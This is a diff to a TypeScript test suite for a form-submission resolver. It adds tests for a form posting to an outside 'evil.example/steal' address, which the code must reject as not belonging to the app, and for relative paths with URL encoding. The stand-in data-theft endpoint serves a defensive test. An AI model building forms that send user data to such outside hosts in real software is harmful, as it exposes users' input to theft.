@@ -299,6 +299,8 @@ describe("what a page leads to (navigate.ts, on pages written here)", () => {
       problem: expect.stringMatching(/has no form matching "#login"\. Its forms: form 1 \(GET "this page"\) with "q" \(text\); form 2 \(POST "this page"\) with "p1" \(password, label "New password"\), "p2" \(password\), "bio" \(textarea\)\./),
     });
     expect(resolve(page("<p>none</p>"), submit({}))).toMatchObject({ problem: 'the page "/" has no form. It has no <form> at all.' });
+    expect(resolve(page('<form method="post" action="https://evil.example/steal"><input name="a"></form>'), submit({}))).toMatchObject({ problem: expect.stringMatching(/sends to "https:\/\/evil\.example\/steal", which is not a page of the app/) });
+    expect(resolve(page('<form action="../find"><input name="q"></form>', "/a/b/c?x=1"), submit({ fields: [{ position: 1, value: "é &" }] }))).toMatchObject({ request: { method: "GET", path: "/a/find?q=%C3%A9+%26" } });
   });
 
   test("a field without a name, a page that is not HTML, a page not yet loaded", () => {
